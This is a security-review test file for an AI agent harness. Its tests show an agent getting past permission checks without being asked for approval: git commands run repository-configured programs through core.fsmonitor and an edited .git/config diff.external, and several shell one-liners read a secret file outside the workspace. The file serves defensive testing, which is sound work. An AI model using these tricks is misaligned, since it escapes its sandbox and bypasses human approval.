// Security review (throwaway): end-to-end runs with createAgent + scriptedModel + workspaceTools.
// Every test PASSES when the hole is present. All files live in mkdtemp directories.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createAgent } from 'agent-harness';
import { workspaceTools } from 'agent-harness/node';
import { scriptedModel, toolCall, turn } from 'agent-harness/testing';
import { makeTempDir } from '../node/workspace-tools/helpers.js';

let base: string;
let work: string;
const SECRET = 'TOP-SECRET-CONTENT';
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.email=a@b', '-c', 'user.name=a', ...args], { cwd, stdio: 'pipe' });

beforeEach(async () => {
  base = await makeTempDir('secrev-agent-');
  work = path.join(base, 'work');
  await fs.mkdir(work);
  await fs.mkdir(path.join(base, 'outside'));
  await fs.writeFile(path.join(base, 'outside', 'secret.txt'), `${SECRET}\n`);
  await fs.writeFile(path.join(work, 'f.txt'), 'a\n');
  git(work, 'init', '-q');
  git(work, 'add', 'f.txt');
  git(work, 'commit', '-qm', 'init');
});
afterEach(async () => {
  await fs.rm(base, { recursive: true, force: true });
});

function toolResults(agent: ReturnType<typeof createAgent>): string {
  return JSON.stringify((agent.snapshot() as { messages: unknown[] }).messages);
}

describe('HOLE: "read-only" git runs repository-configured programs', () => {
  it('plan mode: `git status` runs core.fsmonitor from a (nested) repo config, without asking', async () => {
    // e.g. an extracted fixture / vendored repo inside the workspace
    const nested = path.join(work, 'vendor');
    await fs.mkdir(nested);
    git(nested, 'init', '-q');
    await fs.writeFile(path.join(nested, 'x'), 'x');
    git(nested, 'add', 'x');
    git(nested, 'commit', '-qm', 'x');
    git(nested, 'config', 'core.fsmonitor', 'touch ../PWNED-PLAN; false');
    const asked: string[] = [];
    const agent = createAgent({
      model: scriptedModel([turn(toolCall('Bash', { command: 'cd vendor && git status' }, 'b1')), 'done']),
      tools: workspaceTools({ cwd: work }),
      permissionMode: 'plan',
      cwd: work,
      canUseTool: async (name) => (asked.push(name), { behavior: 'deny', message: 'no' }),
    });
    await agent.run('look around').result;
    expect(asked).toEqual([]);
    expect(await fs.stat(path.join(work, 'PWNED-PLAN')).then(() => true, () => false)).toBe(true);
  });

  it('acceptEdits: Write .git/config (auto-allowed edit) then `git diff` (auto-allowed read-only) = arbitrary command, never asked', async () => {
    const asked: string[] = [];
    const agent = createAgent({
      model: scriptedModel([
        turn(toolCall('Read', { file_path: 'f.txt' }, 'r0'), toolCall('Read', { file_path: '.git/config' }, 'r1')),
        turn(toolCall('Edit', { file_path: 'f.txt', old_string: 'a', new_string: 'b' }, 'e0')),
        turn(toolCall('Edit', { file_path: '.git/config', old_string: '[core]', new_string: '[diff]\n\texternal = "touch PWNED-ACCEPT-EDITS; true"\n[core]' }, 'e1')),
        turn(toolCall('Bash', { command: 'git diff' }, 'b1')),
        'done',
      ]),
      tools: workspaceTools({ cwd: work }),
      permissionMode: 'acceptEdits',
      cwd: work,
      canUseTool: async (name) => (asked.push(name), { behavior: 'deny', message: 'no' }),
    });
    await agent.run('go').result;
    expect(asked).toEqual([]);
    expect(await fs.stat(path.join(work, 'PWNED-ACCEPT-EDITS')).then(() => true, () => false)).toBe(true);
  });
});

describe('HOLE: plan-mode reads outside the workspace without asking (end to end)', () => {
  it.each([
    'cd -P ../outside && cat secret.txt',
    "printf '../outside/secret.txt\\0' | sort --files0-from=-",
    'cat ~+/../outside/secret.txt',
    'date --file=../outside/secret.txt',
  ])('%s', async (command) => {
    const asked: string[] = [];
    const agent = createAgent({
      model: scriptedModel([turn(toolCall('Bash', { command }, 'b1')), 'done']),
      tools: workspaceTools({ cwd: work }),
      permissionMode: 'plan',
      cwd: work,
      canUseTool: async (name) => (asked.push(name), { behavior: 'deny', message: 'no' }),
    });
    await agent.run('look').result;
    expect(asked).toEqual([]);
    expect(toolResults(agent)).toContain(SECRET);
  });
});
